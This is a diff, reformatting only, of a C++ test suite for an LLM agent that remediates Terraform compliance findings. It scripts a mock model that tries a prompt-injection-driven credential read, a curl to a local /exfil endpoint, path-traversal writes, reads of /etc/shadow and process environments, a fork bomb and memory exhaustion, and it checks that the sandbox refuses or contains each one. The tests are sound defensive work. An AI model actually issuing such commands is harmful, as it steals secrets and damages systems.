@@ -56,14 +56,15 @@ resource "aws_s3_bucket_versioning" "logs" {
 
 json finding_task(const std::string& description = "Ensure all data stored in the S3 bucket have versioning enabled")
 {
-    return {{"id", "01JTASKLLM0000000000000000"},
-            {"type", "compliance-remediation"},
-            {"trigger", {{"source", "api"}, {"provider", "checkov"}}},
-            {"title", "CKV_AWS_21 on aws_s3_bucket.logs"},
-            {"description", description},
-            {"context", {{"agentSlug", "llm"}, {"repositoryId", "acme/infra"}, {"resource", "aws_s3_bucket.logs"}}},
-            {"payload",
-             {{"finding", {{"canonicalRuleId", "CKV_AWS_21"}, {"file", "main.tf"}, {"resource", "aws_s3_bucket.logs"}}}}}};
+    return {
+        {"id", "01JTASKLLM0000000000000000"},
+        {"type", "compliance-remediation"},
+        {"trigger", {{"source", "api"}, {"provider", "checkov"}}},
+        {"title", "CKV_AWS_21 on aws_s3_bucket.logs"},
+        {"description", description},
+        {"context", {{"agentSlug", "llm"}, {"repositoryId", "acme/infra"}, {"resource", "aws_s3_bucket.logs"}}},
+        {"payload",
+         {{"finding", {{"canonicalRuleId", "CKV_AWS_21"}, {"file", "main.tf"}, {"resource", "aws_s3_bucket.logs"}}}}}};
 }
 
 json decision(json constraints = json::object())
@@ -143,8 +144,18 @@ struct LlmAgentTest : ::testing::TestWithParam<llm::Provider> {
         if (!typed || !decided)
             return core::agent::Outcome::failure("a test task or decision that does not read: " +
                                                  (typed ? decided.error().message : typed.error().message));
-        core::agent::RunContext ctx{*typed, *decided, 1, 0, deadline, [deadline] { return std::chrono::steady_clock::now() > deadline; },
-                                    events, &*ws, &*box, digest, std::move(record), std::move(replay)};
+        core::agent::RunContext ctx{*typed,
+                                    *decided,
+                                    1,
+                                    0,
+                                    deadline,
+                                    [deadline] { return std::chrono::steady_clock::now() > deadline; },
+                                    events,
+                                    &*ws,
+                                    &*box,
+                                    digest,
+                                    std::move(record),
+                                    std::move(replay)};
         return agent->run(ctx);
     }
 
@@ -225,7 +236,8 @@ TEST_P(LlmAgentTest, PromptInjectionInTheFindingStaysDataAndItsOrdersAreRefused)
     server.script({
         // A model that falls for it, move by move.
         Turn{{{"read_file", {{"path", "/root/.aws/credentials"}}},
-              {"run_command", {{"argv", {"curl", "-s", "http://127.0.0.1:" + std::to_string(server.port()) + "/exfil"}}}},
+              {"run_command",
+               {{"argv", {"curl", "-s", "http://127.0.0.1:" + std::to_string(server.port()) + "/exfil"}}}},
               {"write_file", {{"path", "../outside/loot.txt"}, {"content", "keys"}}}}},
         Turn{{{"finish", {{"summary", "maintenance done"}}}}},
     });
@@ -267,7 +279,8 @@ TEST_P(LlmAgentTest, PromptInjectionInTheFindingStaysDataAndItsOrdersAreRefused)
 TEST_P(LlmAgentTest, DeniedToolsAreNotOfferedAndRefusedWhenCalledAnyway)
 {
     server.script({
-        Turn{{{"write_file", {{"path", "main.tf"}, {"content", "x"}}}, {"apply_patch", {{"patch", "--- a/main.tf\n"}}}}},
+        Turn{
+            {{"write_file", {{"path", "main.tf"}, {"content", "x"}}}, {"apply_patch", {{"patch", "--- a/main.tf\n"}}}}},
         Turn{{{"finish", {{"summary", "gave up"}}}}},
     });
     auto o = run(finding_task(), decision({{"allowedTools", {"list_files", "read_file", "search"}}}));
@@ -294,7 +307,9 @@ TEST_P(LlmAgentTest, TraversalAndSymlinkEscapesAreRefused)
               {"write_file", {{"path", "modules/evil.tf"}, {"content", "x"}}},
               {"write_file", {{"path", "vars.tf"}, {"content", "overwritten"}}},
               {"write_file", {{"path", "/tmp/evil.tf"}, {"content", "x"}}},
-              {"apply_patch", {{"patch", "--- a/../outside/secret.txt\n+++ b/../outside/secret.txt\n@@ -1 +1 @@\n-outside-secret\n+owned\n"}}},
+              {"apply_patch",
+               {{"patch",
+                 "--- a/../outside/secret.txt\n+++ b/../outside/secret.txt\n@@ -1 +1 @@\n-outside-secret\n+owned\n"}}},
               {"list_files", {{"path", "modules"}}},
               {"search", {{"text", "outside-secret"}}}}},
         Turn{{{"finish", {{"summary", "nothing"}}}}},
@@ -342,7 +357,9 @@ TEST_P(LlmAgentTest, CommandsRunSandboxedWithoutCredentialsNetworkOrRoomForBombs
     server.script({
         Turn{{{"run_command", {{"argv", {"cat", "/root/.aws/credentials", "/etc/shadow"}}}},
               {"run_command", {{"argv", {"sh", "-c", "env; cat /proc/1/environ 2>&1 | tr '\\0' '\\n'"}}}},
-              {"run_command", {{"argv", {"python3", "-c", "import urllib.request;print(urllib.request.urlopen('" + url + "').read())"}}}},
+              {"run_command",
+               {{"argv",
+                 {"python3", "-c", "import urllib.request;print(urllib.request.urlopen('" + url + "').read())"}}}},
               {"run_command", {{"argv", {"sh", "-c", "f(){ f|f& }; f"}}}},
               {"run_command", {{"argv", {"python3", "-c", "b=[]\nwhile True: b.append(bytearray(1<<26))"}}}}}},
         Turn{{{"finish", {{"summary", "tried everything"}}}}},
@@ -358,14 +375,15 @@ TEST_P(LlmAgentTest, CommandsRunSandboxedWithoutCredentialsNetworkOrRoomForBombs
     EXPECT_NE(results.find("No such file"), std::string::npos) << results;
     EXPECT_NE(results.find("MemoryError"), std::string::npos) << results;  // the memory limit held
     EXPECT_NE(results.find("URLError"), std::string::npos) << results;     // no route out
-    EXPECT_EQ(event_types(events, "task.tool").size(), 6u);  // 5 commands ran (contained) + finish
+    EXPECT_EQ(event_types(events, "task.tool").size(), 6u);                // 5 commands ran (contained) + finish
     expect_key_kept(o);
 }
 
 TEST_P(LlmAgentTest, FailedValidationGoesBackToTheModel)
 {
     server.script({
-        Turn{{{"write_file", {{"path", "main.tf"}, {"content", "resource \"aws_s3_bucket\" \"logs\" {\n  bucket = \n"}}}}},
+        Turn{{{"write_file",
+               {{"path", "main.tf"}, {"content", "resource \"aws_s3_bucket\" \"logs\" {\n  bucket = \n"}}}}},
         Turn{{{"finish", {{"summary", "fixed"}}}}},
         Turn{{{"write_file", {{"path", "main.tf"}, {"content", k_fixed_tf}}}}},
         Turn{{{"finish", {{"summary", "fixed, properly"}}}}},
@@ -443,7 +461,9 @@ TEST_P(LlmAgentTest, ReplaysARecordingOfflineToTheSameResult)
 }
 
 INSTANTIATE_TEST_SUITE_P(Protocols, LlmAgentTest, ::testing::Values(llm::Provider::openai, llm::Provider::anthropic),
-                         [](const auto& info) { return info.param == llm::Provider::anthropic ? "anthropic" : "openai"; });
+                         [](const auto& info) {
+                             return info.param == llm::Provider::anthropic ? "anthropic" : "openai";
+                         });
 
 TEST(LlmSettings, FromConfigAndEnvironment)
 {
@@ -487,7 +507,8 @@ TEST(LlmReplies, MalformedAnswersAreErrorsNotCrashes)
     EXPECT_FALSE(llm::parse_anthropic(R"({"content":"text"})"));
     EXPECT_FALSE(llm::parse_openai(R"({"choices":[{"message":{"tool_calls":[{"function":{"arguments":"{}"}}]}}]})"));
     // Arguments that are not JSON reach the tool box as a string, which refuses them.
-    auto r = llm::parse_openai(R"({"choices":[{"message":{"tool_calls":[{"id":"1","function":{"name":"read_file","arguments":"{path: x"}}]}}]})");
+    auto r = llm::parse_openai(
+        R"({"choices":[{"message":{"tool_calls":[{"id":"1","function":{"name":"read_file","arguments":"{path: x"}}]}}]})");
     ASSERT_TRUE(r);
     EXPECT_TRUE(r->calls[0].arguments.is_string());
 }
